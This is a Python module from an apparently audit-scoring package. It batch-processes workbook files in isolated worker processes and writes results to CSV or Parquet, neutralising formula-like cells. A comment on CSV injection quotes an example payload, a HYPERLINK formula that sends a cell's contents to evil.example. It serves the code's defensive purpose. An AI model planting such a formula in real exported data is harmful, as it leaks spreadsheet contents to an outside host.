"""Score many audit files at once: one row per audit, unreadable files reported and skipped.

Each file is read in a worker process (also with one job): a file that makes the parser crash, or the
system kill the worker, costs that file alone, listed as skipped, and the worker is replaced. Workers
ignore Ctrl-C (the batch stops them) and end with the batch however it ends (on Linux the kernel
kills them when it dies, elsewhere they stop at their next file).
"""

from __future__ import annotations

import csv
import glob
import multiprocessing
import os
import signal
import sys
import time
from collections import deque
from multiprocessing.connection import wait
from pathlib import Path
from typing import Any, Callable, Iterable, Iterator

from spi4xl.assess import assess
from spi4xl.errors import Spi4xlError
from spi4xl.output import TEMP_SUFFIX, atomic_output
from spi4xl.plan import gap_count, status_counts
from spi4xl.processes import die_with_parent
from spi4xl.workbook.read import load_editions
from spi4xl.workbook.values import WORKBOOK_SUFFIXES

META_COLUMNS = ("organization", "country", "assessment_type", "start_date", "end_date")


def find_audits(pattern: str) -> list[Path]:
    """Workbooks in a folder (recursively) or matching a glob, in a stable order."""
    path = Path(pattern)
    if path.is_dir():
        files = [p for p in path.rglob("*") if p.suffix.lower() in WORKBOOK_SUFFIXES]
    else:
        files = [Path(p) for p in glob.glob(pattern, recursive=True) if Path(p).suffix.lower() in WORKBOOK_SUFFIXES]
    files = [p for p in files if not p.name.startswith("~$")  # Excel's lock files
             and not any(part.startswith(".") and part.endswith(TEMP_SUFFIX) for part in p.parts)]  # our own, half written
    if not files:
        raise Spi4xlError("batch.no_audits", pattern=pattern)
    return sorted(files)


def audit_row(path: Path) -> dict[str, Any]:
    """Metadata, every unit score, completion and finding counts of one audit, as a flat row."""
    a = assess(path)
    audit, s = a.read.audit, a.scores
    row: dict[str, Any] = {"file": str(path), "language": audit.language, "edition": audit.edition,
                           "catalog_version": audit.catalog_version, "profile": audit.profile}
    row.update({k: _plain(audit.metadata.get(k)) for k in META_COLUMNS})
    row.update(overall=s.overall.score, completion=s.completion, provisional=s.provisional,
               answered=s.overall.answered, total=s.overall.total, alinus=s.alinus.score)
    for prefix, units in (("dim", s.dimensions), ("std", s.standards), ("cp", s.client_protection), ("module", s.modules)):
        row.update({f"{prefix}_{code}": unit.score for code, unit in units.items()})
    row.update({f"findings_{k}": v for k, v in a.counts.items()})
    row.update(gaps=gap_count(s), **{f"plan_{k}": v for k, v in status_counts(audit).items()})
    return row


def _plain(value: Any) -> Any:
    return value.isoformat() if hasattr(value, "isoformat") else value


def _safe_row(path: Path) -> tuple[Path, dict[str, Any] | None, Spi4xlError | None]:
    """One audit's row, or the error that skips it (as data: the parent process words it in its language)."""
    try:
        return path, audit_row(path), None
    except Spi4xlError as exc:
        return path, None, exc
    except Exception as exc:  # one broken file must never abort a batch of hundreds
        return path, None, Spi4xlError("batch.unexpected", path=path, error=type(exc).__name__, detail=str(exc))


FILE_SECONDS = 300  # a worker still on one file after this long is stopped and the file skipped


def _work(conn, parent: int) -> None:
    """A worker: score each path it is sent until it is sent None or the batch goes away."""
    die_with_parent(parent)
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # Ctrl-C is for the batch to handle
    for name in ("SIGTERM", "SIGHUP"):  # the batch's own handlers are not the worker's
        if hasattr(signal, name):
            signal.signal(getattr(signal, name), signal.SIG_DFL)
    while True:
        try:
            path = conn.recv()
        except (EOFError, OSError):
            return
        if path is None:
            return
        conn.send(_safe_row(Path(path))[1:])


class _Worker:
    def __init__(self, context) -> None:
        self.conn, child = context.Pipe()
        self.process = context.Process(target=_work, args=(child, os.getpid()), daemon=True)
        self.process.start()
        child.close()
        self.task: tuple[int, Path] | None = None
        self.started = 0.0

    def give(self, index: int, path: Path) -> None:
        self.task, self.started = (index, path), time.monotonic()
        self.conn.send(str(path))

    def answer(self) -> tuple[dict[str, Any] | None, str] | None:
        """What the worker sent back, or None when it died without an answer."""
        try:
            return self.conn.recv() if self.conn.poll() else None
        except (EOFError, OSError):
            return None

    def stop(self) -> None:
        if self.process.is_alive():
            self.process.kill()
        self.process.join()
        self.conn.close()


def _death(process) -> str:
    code = process.exitcode
    if code is not None and code < 0:
        try:
            return signal.Signals(-code).name
        except ValueError:
            return f"signal {-code}"
    return f"exit code {code}"


def iter_rows(files: list[Path], jobs: int = 1) -> Iterator[tuple[int, Path, dict[str, Any] | None, Spi4xlError | None]]:
    """(index in `files`, path, row or None, error) for every file, in the order they finish."""
    if not files:
        return
    fork = sys.platform.startswith("linux")
    if fork:
        load_editions()  # before the workers fork: they share the catalogs instead of each loading its own
    context = multiprocessing.get_context("fork" if fork else "spawn")
    todo = deque(enumerate(files))
    workers = [_Worker(context) for _ in range(max(1, min(jobs, len(files))))]
    try:
        while True:
            for worker in workers:
                if worker.task is None and todo:
                    worker.give(*todo.popleft())
            busy = [w for w in workers if w.task is not None]
            if not busy:
                return
            ready = set(wait([w.conn for w in busy] + [w.process.sentinel for w in busy], timeout=0.5))
            for i, worker in enumerate(workers):
                if worker.task is None:
                    continue
                (index, path), lost = worker.task, None
                if worker.conn in ready or worker.process.sentinel in ready:
                    if (result := worker.answer()) is None:
                        worker.stop()
                        lost = Spi4xlError("batch.crashed", path=path, how=_death(worker.process))
                elif time.monotonic() - worker.started > FILE_SECONDS:
                    worker.stop()
                    lost = Spi4xlError("batch.too_slow", path=path, seconds=FILE_SECONDS)
                else:
                    continue
                worker.task = None
                if lost is not None:  # the file costs its worker, not the batch: a fresh one takes its place
                    workers[i], result = _Worker(context), (None, lost)
                yield index, path, *result
    finally:
        for worker in workers:
            worker.stop()


# A CSV cell starting with one of these is a formula to a spreadsheet app (OWASP, CSV injection): a file
# named =HYPERLINK(...).xlsx or an organization typed as =HYPERLINK("http://evil.example/?"&B2) would run.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text a spreadsheet app would take for a formula, with a leading apostrophe; anything else as it is."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def restore(value: Any) -> Any:
    """The text `neutralise` was given (for reading back a table it wrote)."""
    return value[1:] if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value


def run_batch(files: list[Path], out: Path, jobs: int = 1,
              progress: Callable[[Iterable], Iterable] | None = None,
              raw: bool = False) -> tuple[int, list[tuple[Path, Spi4xlError]]]:
    """Write results to .csv or .parquet; returns (rows written, [(file, error)] for skipped files).

    CSV texts that a spreadsheet app would run as formulas are neutralised unless `raw`; numbers stay numbers,
    and Parquet (typed, never evaluated) keeps every value as it is."""
    suffix = out.suffix.lower()
    if suffix not in (".csv", ".parquet"):
        raise Spi4xlError("batch.out_format", path=out)
    done: list[tuple[int, Path, dict[str, Any] | None, Spi4xlError | None]] = []
    stream = iter_rows(files, jobs)
    done.extend(progress(stream) if progress else stream)
    done.sort(key=lambda item: item[0])  # the order of the files, however the workers finished
    rows = [row for _, _, row, _ in done if row is not None]
    skipped = [(path, error) for _, path, row, error in done if row is None]
    with atomic_output(out) as temp:
        if suffix == ".csv":
            _write_csv(temp, rows, raw)
        else:
            import pandas as pd  # only for Parquet: a CSV needs neither its import time nor its memory

            try:
                pd.DataFrame(rows).to_parquet(temp, index=False)
            except ImportError:
                raise Spi4xlError("batch.no_pyarrow") from None
    return len(rows), skipped


def _write_csv(path: Path, rows: list[dict[str, Any]], raw: bool) -> None:
    """One line per row under the union of their columns (in order of first appearance), empty for None."""
    columns = list(dict.fromkeys(key for row in rows for key in row))
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(columns)
        for row in rows:
            values = (row.get(c) for c in columns)
            writer.writerow(["" if v is None else v if raw else neutralise(v) for v in values])


def default_jobs() -> int:
    return max(1, min(2, os.cpu_count() or 1))
